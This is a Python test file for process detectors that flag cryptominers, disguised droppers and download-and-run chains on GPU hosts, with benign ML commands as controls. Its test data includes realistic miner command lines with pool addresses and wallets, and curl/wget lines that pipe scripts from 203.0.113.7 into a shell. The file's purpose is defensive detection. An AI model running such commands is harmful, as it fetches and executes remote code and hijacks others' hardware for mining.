"""Process detectors on realistic command lines of miner families, droppers and ordinary ML work."""

from __future__ import annotations

import pytest

from detectors.engine import Engine
from detectors.examples import proc
from detectors.process import _cmdline
from gpusentry import contract as c

XMR = "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"
ETH = "0x1f9090aaE28b8a3dCeaDf281B0F12828e676c326"


def findings(line: str, **kw) -> dict[str, str]:
    """rule id -> severity of what the process detectors raise on one process start."""
    engine = Engine(strict=True)
    ev = c.validate_or_raise(proc(line, **kw))
    out: dict[str, str] = {}
    for det in engine._by_dataset["gpusentry.process"]:
        for f in det.process(ev, det.new_state()):
            out[f.rule_id] = f.severity
    return out


# Miner families as their documentation shows them, most renamed to something innocent.
MINERS = [
    f"/tmp/.cache/xmrig -o pool.supportxmr.com:443 -u {XMR} -k --tls --donate-level 1",
    "/opt/svc/t-rex -a kawpow -o stratum+tcp://rvn.2miners.com:6060 -u RN9pYWZR2QXEUYGq1u2FGmFJz2BcePTEeg.rig -p x",
    f"/home/u/lolMiner --algo ETCHASH --pool etc.2miners.com:1010 --user {ETH}.rig --tls off",
    f"/home/u/bin/nbminer -a kawpow -o stratum+ssl://rvn.example.org:5555 -u {ETH}.w1",
    f"/srv/gminer/miner --algo kheavyhash --server kas.example.org:4444 --user kaspa:{'q' * 61}",
    f"/usr/local/bin/teamredminer -a autolykos2 -o stratum+tcp://erg.example.org:1800 -u 9{'h' * 50}",
    f"/data/bzminer -a kaspa -w kaspa:{'q' * 61} -p stratum+tcp://kas.example.org:3333",
    "/data/rigel -a karlsenhash -o stratum+ssl://kls.example.org:3333 -u karlsen:qqq -w rig1",
    f"/root/SRBMiner-MULTI --algorithm randomx --pool xmr.example.org:4444 --wallet {XMR}",
    f"/opt/ethminer -P stratum1+tcp://{ETH}.rig@eth.example.org:4444",
    "/usr/bin/python3 -m cuda_app --donate-level 0 -o nicehash+tcp://daggerhashimoto.eu.nicehash.com:3353",
    "/tmp/x -o zmp+tcp://pool.example.org:2222 -u abc",
    "/tmp/x -o stratum2+tcp://pool.example.org:34254/u/rig",
    "/tmp/x --url ethproxy+tcp://eth.example.org:8008 --user w",
    "/tmp/x -o stratum+tls://pool.example.org:443",
]


@pytest.mark.parametrize("line", MINERS)
def test_miner_families_by_flags_are_high(line):
    found = findings(line)
    assert found.get("process.miner_flags") == "high", found


BENIGN = [
    "/usr/bin/python3 train.py --epochs 90 --batch-size 256 --lr 0.1 -o /data/ckpt --cuda",
    "/opt/conda/bin/torchrun --nproc-per-node 8 train.py -c configs/llama.json",
    "/usr/bin/grep -r stratum+tcp:// /var/log/",
    "/usr/bin/vim xmrig.json",
    "/usr/bin/python3 -m pip download xmrig",
    "/usr/bin/curl -LO https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz",
    "/usr/bin/ssh -o ServerAliveInterval=30 -p 2222 user@bastion",
    "/usr/bin/ffmpeg -hwaccel cuda -i in.mp4 -c:v h264_nvenc -preset p4 -o out.mp4",
    "/usr/local/bin/gpu_burn -d 3600",
    "/usr/bin/nvidia-smi -q -d PERFORMANCE",
    "/usr/bin/python3 -c 'import torch; print(torch.cuda.is_available())'",
    "/usr/sbin/nginx -c /etc/nginx/nginx.conf",
    "/usr/bin/bash -c 'echo stratum+tcp://example is blocked by policy | logger'",
    "/usr/bin/hashcat -m 1000 -a 3 hashes.txt ?a?a?a?a",
    "/usr/bin/kubectl logs miner-detector-test -n security",
    "/home/ml/.local/bin/jupyter-lab --no-browser --port 8888",
]


@pytest.mark.parametrize("line", BENIGN)
def test_ordinary_work_raises_nothing_above_low(line):
    found = findings(line)
    assert all(sev == "low" for sev in found.values()), found


def test_a_lone_odd_path_is_low_and_a_disguised_dropper_is_high():
    assert findings("/tmp/build-42/tool --fast") == {"process.staging_path": "low"}
    dropper = findings("/dev/shm/.x/kworker -c /dev/shm/.x/c.json -B", name="kworker/1:1")
    assert dropper["process.miner_config"] == "high" and dropper["process.masquerade"] == "high"


def test_service_abuse_and_download_and_run():
    shadowray = findings("/bin/sh -c 'curl -s http://203.0.113.7/x.sh | bash'", parent="raylet")
    assert shadowray == {"process.service_spawn": "medium", "process.download_exec": "medium"}
    named = findings("bash -c 'wget -qO- http://203.0.113.7/xmrig.sh | sh'")
    assert named["process.download_exec"] == "high"


def test_shell_scripts_are_split_into_commands():
    args = _cmdline.split("sh -c 'cd /tmp && nohup ./a -o stratum+tcp://h:1 >/dev/null 2>&1 & echo ok'")
    segs = _cmdline.segments(args)
    assert ["./a", "-o", "stratum+tcp://h:1", ">/dev/null", "2>", "1"] in segs or \
        any(s[:3] == ["./a", "-o", "stratum+tcp://h:1"] for s in segs)
    assert ["echo", "ok"] in segs
    assert _cmdline.segments(_cmdline.split("sh -c 'unbalanced \"quote'")), "odd input still gives commands"


def test_secrets_on_command_lines_never_reach_findings():
    engine = Engine(strict=True)
    ev = c.validate_or_raise(proc("/tmp/m -o stratum+tcp://bob:hunter2@pool.example.org:3333 -u w -p s3cret "
                                  "--api-key=k3y", parent="gunicorn"))
    texts = []
    for det in engine._by_dataset["gpusentry.process"]:
        for f in det.process(ev, det.new_state()):
            texts += [f.message, str(f.fields)]
    assert texts and not any(s in t for t in texts for s in ("hunter2", "s3cret", "k3y"))
    assert _cmdline.redact("curl -H 'x' http://u:pw@h/ TOKEN=abc") == "curl -H 'x' http://u:***@h/ TOKEN=***"


def test_container_clis_that_run_programs_are_judged_by_their_args():
    assert findings("/usr/bin/docker run -d --gpus all img -o stratum+tcp://pool.example.org:3333")[
        "process.miner_flags"] == "high"
    assert "process.miner_flags" not in findings("/usr/bin/docker logs -f stratum+tcp://not-a-container")
    assert findings("/usr/bin/kubectl exec -it pod -- ./m -o stratum+ssl://pool.example.org:443")[
        "process.miner_flags"] == "high"
